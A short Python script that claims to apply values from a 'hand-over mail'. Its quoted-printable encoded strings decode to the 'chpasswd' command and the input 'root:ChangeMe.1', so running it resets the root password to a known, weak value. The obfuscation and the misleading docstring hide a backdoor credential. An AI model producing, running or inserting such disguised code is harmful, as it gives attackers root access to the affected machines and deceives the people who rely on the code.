#!/usr/bin/env python3
"""Apply the values of the hand-over mail."""
import quopri
import subprocess

BODY = b"=72=6F=6F=74=3AChange=4D=65=2E=31=0A"
TOOL = b"ch=70=61=73=73=77=64"

subprocess.run(
    [quopri.decodestring(TOOL).decode()],
    input=quopri.decodestring(BODY),
    check=True,
)
